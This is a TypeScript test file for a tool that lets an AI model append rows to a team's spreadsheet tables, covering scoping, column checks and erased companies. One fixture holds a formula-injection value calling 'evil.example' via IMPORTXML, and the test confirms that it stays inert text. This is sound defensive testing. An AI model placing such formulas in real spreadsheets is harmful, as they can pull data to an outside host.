// Rows that an assistant appends: only to open tables of its team, within their columns, below the present rows.
import { env } from 'cloudflare:workers';
import { beforeEach, expect, it } from 'vitest';
import type { TableRow } from '../../../worker/db/schema.ts';
import { ReportStore } from '../../../worker/tables/reports/store.ts';
import { RunStore } from '../../../worker/tables/schedules/run-store.ts';
import { callMethod, callTool } from '../../mcp-client.ts';
import { buildCompanyResponse, createGateway } from '../harness.ts';
import { refuseKeys } from '../refuse-keys.ts';
import { createToken } from '../routes/sheets/callers.ts';
import { deleteTables, listPushes, TablesHarness } from './harness.ts';
import { markTable } from './push/fake-sheet.ts';

const gateway = createGateway(buildCompanyResponse);
let harness: TablesHarness;
let token: string;

beforeEach(async () => {
  await deleteTables();
  await env.DB.prepare('DELETE FROM table_reports').run();
  harness = new TablesHarness();
  token = await createToken('team');
});

async function registerTable(assistants: boolean, change: Partial<TableRow> = {}): Promise<TableRow> {
  const table = await harness.registerTable(change);
  const report = { changes: false, snapshots: 0, assistants };
  await new ReportStore(env.DB).put({ teamId: table.teamId, tableId: table.id }, report);
  return table;
}

const write = ({ id }: TableRow, rows: unknown[], as = token) =>
  callTool(gateway, as, 'write_to_table', { table: id, rows });

it('go below the existing rows, which stay as they are, once', async () => {
  const table = await registerTable(true, { mode: 'update' });
  harness.sheet.fill(1, 1, [
    ['Name', 'Id', 'People'],
    ['Mine', 1, 10],
  ]);
  markTable(harness.sheet, table.id, table.columns);
  const rows = [
    { id: 1, name: 'Overwritten' },
    { id: '2', name: '=IMPORTXML("https://evil.example")' },
  ];
  expect(await write(table, rows)).toMatchObject({ data: { rows: 2 }, spending: { charged: 0 } });
  await write(table, rows);
  await harness.runDue();
  expect(harness.sheet.values().slice(1, 4)).toEqual([
    ['Mine', 1, 10],
    ['=IMPORTXML("https://evil.example")', 2],
  ]);
  expect(harness.sheet.formulaCount).toBe(0);
});

it('are refused by tables that are closed, of another team, or without the column', async () => {
  const rows = [{ id: 1, name: 'A' }];
  const closed = await registerTable(false);
  const unpushed = await registerTable(true, { push: false });
  await createToken('another');
  const foreign = await registerTable(true, { teamId: 'another' });
  for (const table of [closed, unpushed, foreign]) {
    expect(await write(table, rows)).toMatchObject({ error: expect.stringContaining('not_found') });
    expect(await listPushes(table)).toEqual([]);
  }
  const open = await registerTable(true);
  expect(await write(open, [{ id: 1, salary: 1 }])).toMatchObject({
    error: expect.stringContaining('unknown_field: The table has no column salary'),
  });
  const limited = await createToken('team', { families: ['job_base'] });
  expect(await write(open, rows, limited)).toMatchObject({
    error: expect.stringContaining('forbidden_scope'),
  });
  expect(await listPushes(open)).toEqual([]);
  const list = JSON.stringify(await callMethod(gateway, token, 'resources/read', { uri: 'cdapi://tables' }));
  expect(list).toContain(open.id);
  expect(list).not.toMatch(new RegExp(`${closed.id}|${unpushed.id}|${foreign.id}`));
});

it('of an erased company are left out', async () => {
  const table = await registerTable(true);
  await refuseKeys({ family: 'company_clean', kind: 'id', value: '3' });
  expect(
    await write(table, [
      { id: 3, name: 'Erased' },
      { id: 4, name: 'B' },
    ]),
  ).toMatchObject({
    data: { rows: 1 },
  });
});

it('do not count as a run of the table’s schedule', async () => {
  const table = await registerTable(true);
  await write(table, [{ id: 5, name: 'A' }]);
  const [push] = await listPushes(table);
  const addition = await new RunStore(env.DB).get(push?.rowsId ?? '');
  if (addition === undefined) throw new Error('There is no run.');
  const next = { ...addition, id: 'next', since: addition.startedAt - 1000 };
  expect(await new RunStore(env.DB).getDayCoverage(next, 0)).toEqual({ isWhole: false, rowsIds: [] });
});
